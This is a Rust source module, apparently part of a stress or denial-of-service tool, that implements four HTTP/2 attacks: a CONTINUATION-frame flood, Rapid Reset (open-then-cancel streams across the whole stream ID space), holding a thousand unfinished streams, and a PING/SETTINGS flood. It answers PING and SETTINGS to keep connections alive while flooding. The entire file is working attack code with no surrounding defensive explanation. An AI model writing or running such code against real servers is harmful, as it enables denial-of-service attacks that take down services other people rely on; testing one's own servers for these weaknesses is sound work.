//! Attacks by HTTP/2. All of them reply to PING and SETTINGS, as a living client does.

use tokio::io::{AsyncWriteExt, ReadHalf, WriteHalf, split};
use tokio::sync::Mutex;

use super::BATCH_PAUSE;
use super::frame::{
    ACK, CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PREFACE, RST_STREAM, SETTINGS,
    append, read,
};
use crate::attack::Attack;
use crate::connector::Connection;
use crate::tally::Tally;

/// Streams or frames in one write.
const BATCH: u32 = 50;
/// Streams held open by a connection; servers usually allow 100 to 250.
const UNFINISHED: u32 = 1000;
/// Bytes of one CONTINUATION.
const PART: usize = 16_000;
/// Stream identifiers have 31 bits. The connection is given up before they are used up.
const LAST_STREAM: u32 = u32::MAX >> 2;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

type Reader = ReadHalf<Box<dyn Connection>>;

/// The sending half, which the attack and the replies share.
struct Writer<'a> {
    half: Mutex<WriteHalf<Box<dyn Connection>>>,
    tally: &'a Tally,
}

/// Opens HTTP/2, then attacks while it replies.
pub(crate) async fn perform(attack: Attack, connection: Box<dyn Connection>, tally: &Tally) {
    let (read, write) = split(connection);
    let writer = Writer { half: Mutex::new(write), tally };
    let mut opening = PREFACE.to_vec();
    append(&mut opening, SETTINGS, 0, 0, &[]);
    if writer.send(&opening, 1).await.is_none() {
        return;
    }
    tokio::select! {
        _ = send_all(attack, &writer) => {}
        _ = reply(read, &writer) => {}
    }
}

/// `None` when the connection has ended.
async fn send_all(attack: Attack, writer: &Writer<'_>) -> Option<()> {
    match attack {
        Attack::ContinuationFlood => continuation_flood(writer).await,
        Attack::RapidReset => rapid_reset(writer).await,
        Attack::UnfinishedStreams => unfinished_streams(writer).await,
        Attack::PingFlood => ping_flood(writer).await,
        // A silent client.
        _ => std::future::pending().await,
    }
}

async fn continuation_flood(writer: &Writer<'_>) -> Option<()> {
    let mut batch = Vec::new();
    append(&mut batch, HEADERS, END_STREAM, 1, GET);
    loop {
        append(&mut batch, CONTINUATION, 0, 1, &literals());
        writer.send(&batch, 1).await?;
        batch.clear();
    }
}

async fn rapid_reset(writer: &Writer<'_>) -> Option<()> {
    let mut batch = Vec::new();
    for stream in (1..LAST_STREAM).step_by(2) {
        append(&mut batch, HEADERS, END_STREAM | END_HEADERS, stream, GET);
        append(&mut batch, RST_STREAM, 0, stream, &CANCEL);
        if stream % (2 * BATCH) == 1 {
            writer.send(&batch, BATCH.into()).await?;
            batch.clear();
        }
    }
    None
}

async fn unfinished_streams(writer: &Writer<'_>) -> Option<()> {
    for stream in (1..2 * UNFINISHED).step_by(2) {
        let mut headers = Vec::new();
        append(&mut headers, HEADERS, END_HEADERS, stream, POST);
        writer.send(&headers, 1).await?;
    }
    std::future::pending().await
}

async fn ping_flood(writer: &Writer<'_>) -> Option<()> {
    let mut batch = Vec::new();
    for _ in 0..BATCH {
        append(&mut batch, PING, 0, 0, &[0; 8]);
        append(&mut batch, SETTINGS, 0, 0, &[]);
    }
    loop {
        writer.send(&batch, (2 * BATCH).into()).await?;
    }
}

/// Replies to PING and SETTINGS until the end of the connection.
async fn reply(mut from: Reader, writer: &Writer<'_>) -> Option<()> {
    loop {
        let frame = read(&mut from).await?;
        writer.tally.add_received();
        let mut reply = Vec::new();
        match (frame.kind, frame.flags & ACK) {
            (PING, 0) => append(&mut reply, PING, ACK, 0, &frame.payload),
            (SETTINGS, 0) => append(&mut reply, SETTINGS, ACK, 0, &[]),
            _ => continue,
        }
        writer.send(&reply, 0).await?;
    }
}

// === impl Writer ===

impl Writer<'_> {
    /// Sends so many messages, and pauses. `None` when the connection has ended.
    async fn send(&self, bytes: &[u8], messages: u64) -> Option<()> {
        {
            let mut half = self.half.lock().await;
            half.write_all(bytes).await.ok()?;
            half.flush().await.ok()?;
        }
        self.tally.add_sent(messages);
        tokio::time::sleep(BATCH_PAUSE).await;
        Some(())
    }
}

/// Header fields as literals that no table keeps: name `a`, value of 100 bytes.
fn literals() -> Vec<u8> {
    let mut field = vec![0x10, 1, b'a', 100];
    field.extend([b'a'; 100]);
    field.iter().copied().cycle().take(PART / field.len() * field.len()).collect()
}
